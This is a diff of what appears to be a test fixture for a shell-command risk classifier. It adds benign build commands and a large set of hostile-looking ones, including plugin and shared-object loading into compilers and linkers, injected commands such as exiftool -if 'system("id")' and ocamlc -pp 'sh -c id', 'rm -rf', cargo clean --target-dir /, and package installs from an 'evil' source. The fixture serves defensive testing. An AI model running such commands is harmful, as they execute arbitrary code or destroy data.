@@ -29,7 +29,7 @@ kubectl describe pod x ;; aws s3 ls ;; aws ec2 describe-instances ;; gcloud proj
 ./script.sh ;; ./gradlew build ;; ./node_modules/.bin/eslint . ;; .venv/bin/python a.py ;; .venv/bin/pytest ;; mvn package ;; gradle build ;; cmake -B build ;; cmake --build build
 ninja -C build ;; gcc -o a a.c ;; rustc a.rs ;; javac A.java ;; dotnet build ;; dotnet test ;; bundle exec rspec ;; rails test ;; mix test ;; timeout 60 npm test ;; CI=1 npm test
 npm test 2>&1 | tail -20 ;; cd sub && npm test ;; find . -name '*.pyc' -exec touch {} + ;; xargs wc -l < a ;; foobar x ;; redis-cli get x ;; ssh host ;; npm install x ;; pip install x
-mytool --flag ;; mkdir x ;; touch x ;; tsc ;; eslint . ;; terraform version
+CFLAGS=-O2 make ;; LDFLAGS=-Wl,-rpath,/x make ;; MAVEN_OPTS=-Xmx2g mvn test ;; mytool --load 3 ;; mytool --config x ;; mytool --flag ;; mkdir x ;; touch x ;; tsc ;; eslint . ;; terraform version
 `),
   },
   {
@@ -52,6 +52,22 @@ cargo rustc -- -C linker=./x ;; cargo fix --broken-code ;; go get -t x@latest ;;
 prettier --plugin=./x . ;; webpack --config /tmp/x.js ;; jest --globalSetup ./x ;; vitest --config /tmp/x ;; mocha -r ./x ;; mocha --require ./x test ;; pytest -p evil ;; pytest -c /tmp/x.ini
 pytest -o python_files=x ;; tox -e x --override testenv.commands=id ;; nox -f /tmp/noxfile.py ;; mypy --config-file /tmp/x . ;; pylint --load-plugins=x a.py ;; pylint --init-hook='import os' a.py
 rake db:reset
+ld.lld -mllvm -load=./x.so a.o ;; wasm-ld -mllvm -load=./x.so a.o ;; ocamlc -pp 'sh -c id' a.ml ;; ocamlopt -ppx ./x a.ml ;; ocamlfind ocamlopt -pp ./x a.ml ;; ocamlc -cc ./x a.ml
+rebar3 shell --eval x ;; gradle -D org.gradle.jvmargs=-javaagent:x build ;; cargo clean --target-dir / ;; CGO_CFLAGS='-fplugin=./x.so' go build ;; CFLAGS='-O2 -B./x' make
+LDFLAGS=-Wl,-plugin,./x.so make ;; MAVEN_OPTS=-javaagent:x.jar mvn test ;; GRADLE_OPTS='-XX:OnError=id' gradle build ;; PYTEST_ADDOPTS='-p evil' pytest ;; env CXXFLAGS=-wrapper,./x make
+groff -U a ;; groff -zU a ;; exiftool -config /tmp/x a.jpg ;; exiftool -if 'system("id")' a.jpg
+`),
+  },
+  {
+    name: 'asks others to act',
+    why: 'What acts is another program of this person, or a command line in a word.',
+    tier: 'R4',
+    lines: lines(String.raw`
+dbus-send --session x ;; gdbus call --session x ;; busctl --user call x ;; busctl set-property x ;; qdbus org.kde.konsole x ;; xdotool type id ;; ydotool key x ;; wtype id
+xdg-open https://x ;; xdg-open a.desktop ;; open x.app ;; gio open a ;; gio launch a.desktop ;; gtk-launch x ;; exo-open a ;; wslview a
+concurrently 'id' 'rm -rf x' ;; watchexec id ;; watchexec -e js make ;; watchman-make -p x --run id ;; direnv exec . id ;; mprocs 'rm x' ;; code-server --install-extension evil
+curl --config /tmp/x ;; curl -K x ;; curl -sK x https://y ;; curl --conf=x ;; sometool --eval 'x' ;; sometool --plugin=./x.so ;; sometool --exec id ;; sometool --post-command=id
+pnpm --config.script-shell=./evil test ;; bun pm trust --all ;; pnpm approve-builds ;; mamba install -c http://evil x
 `),
   },
   {
